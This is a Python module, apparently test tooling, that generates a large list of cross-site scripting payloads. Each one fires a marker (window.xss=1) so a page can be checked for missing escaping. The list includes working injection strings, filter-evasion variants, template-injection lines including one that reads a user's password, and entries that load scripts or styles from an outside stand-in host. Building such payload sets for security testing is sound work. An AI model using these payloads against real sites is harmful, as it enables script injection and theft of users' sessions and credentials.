"""Words that would run as a script where a page forgets to escape them: `PAYLOADS`.

Each says `xss` in what it runs, `window.xss=1`, and in what it makes, so that a page can be asked
whether anything of it came to life.
"""

RUN = "window.xss=1"

# What closes the place in which a text may stand: an element's text, an attribute, a script.
_OPENINGS = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>",
    "</option></select>", "</template>", "</noscript>", "</h1></main>", "\"'></a>",
)  # fmt: skip
_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>xss</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
)
_IN_AN_ATTRIBUTE = tuple(
    f"{quote}{gap}{handler}={quote}{RUN}{quote}{gap}x={quote}"
    for quote in ('"', "'")
    for gap in (" ", "/", "\t")
    for handler in ("onmouseover", "onfocus", "onpointerenter")
)
_ADDRESSES = tuple(
    f"{scheme}{RUN}"
    for scheme in (
        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:",
        "javascript&colon;", "&#106;avascript:", "\x01javascript:", "javascript://x/%0a",
        "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:",
    )
)  # fmt: skip
_OTHERS = (
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\t>",
    f"<script/xss>{RUN}</script>",
    "<script src=//xss.example/x.js></script>",
    "<script src=data:,window.xss=1></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<img src=x:x onerror=\"{RUN}\"/>",
    f"<img/src=`x`onerror={RUN}>",
    f"<img src onerror  =  {RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<image href=x onerror={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>xss</marquee>",
    f"<style>@keyframes xss{{}}</style><i style=animation-name:xss onanimationstart={RUN}>",
    f"<style onload={RUN}></style>",
    "<style>@import '//xss.example/x.css';</style>",
    "<link rel=stylesheet href=//xss.example/x.css>",
    f"<link rel=preload as=script href=x onerror={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script>{RUN.replace('=', '&#61;')}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>xss</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg onload='{RUN}'/>\"/></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href=javascript:{RUN}>xss</math>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--<img src=\"--><img src=x onerror={RUN}//\">",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version=1?><img src=x onerror={RUN}>",
    f"<a href=javascript:{RUN}>xss</a>",
    f"<a href=\"&#x6a;avascript:{RUN}\">xss</a>",
    f"<a xlink:href=javascript:{RUN}>xss</a>",
    f"<form action=javascript:{RUN}><button>xss</button></form>",
    f"<button formaction=javascript:{RUN}>xss</button>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<embed src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}></object>",
    f"<frameset onload={RUN}>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    "<base href=//xss.example/>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<xss onfocus={RUN} autofocus tabindex=1>",
    f"<xss style=display:block onpointerover={RUN}>xss</xss>",
    "<xss id=xss></xss>",
    "<plaintext>",
    "<b hx-get=/ hx-trigger=load hx-vals='js:{a:window.xss=1}'>xss</b>",
    f"<b hx-on:click={RUN} data-hx-on-load={RUN}>xss</b>",
    "<div hx-get=/ hx-trigger='load[window.xss=1]'>xss</div>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{% load static %}{{ request.user.password }}",
    "{{ 7|add:7 }}{% include 'xss' %}",
    f"${{{RUN}}}`${{{RUN}}}`",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞",
    f"<ſcript>{RUN}</ſcript>",
    f"<img src=x onerror={RUN}",
    f"<script>{RUN}",
    f"](javascript:{RUN})[xss",
    f"[xss](javascript:{RUN})",
    f"<img src=x\u2028onerror={RUN}>",
    f"\u202e<img src=x onerror={RUN}>",
    f"<img src=x\x0conerror={RUN}>",
    f"<img\x0bsrc=x onerror={RUN}>",
    f"</script><script>{RUN}</script>{{\"a\": 1}}",
    f"<!--<script>{RUN}",
    f"#link(\"javascript:{RUN}\")[xss]",
    f"#eval(\"{RUN}\") $ * _ ` @xss <xss>",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(opening + element for opening in _OPENINGS for element in _ELEMENTS),
            *_IN_AN_ATTRIBUTE,
            *_ADDRESSES,
            *_OTHERS,
        ]
    )
)


def joined(payloads: tuple[str, ...] = PAYLOADS) -> str:
    """Return many in one text. Between two stands what closes whatever the first left open."""
    return "\"'>--></style></script></textarea></title> ".join(payloads)
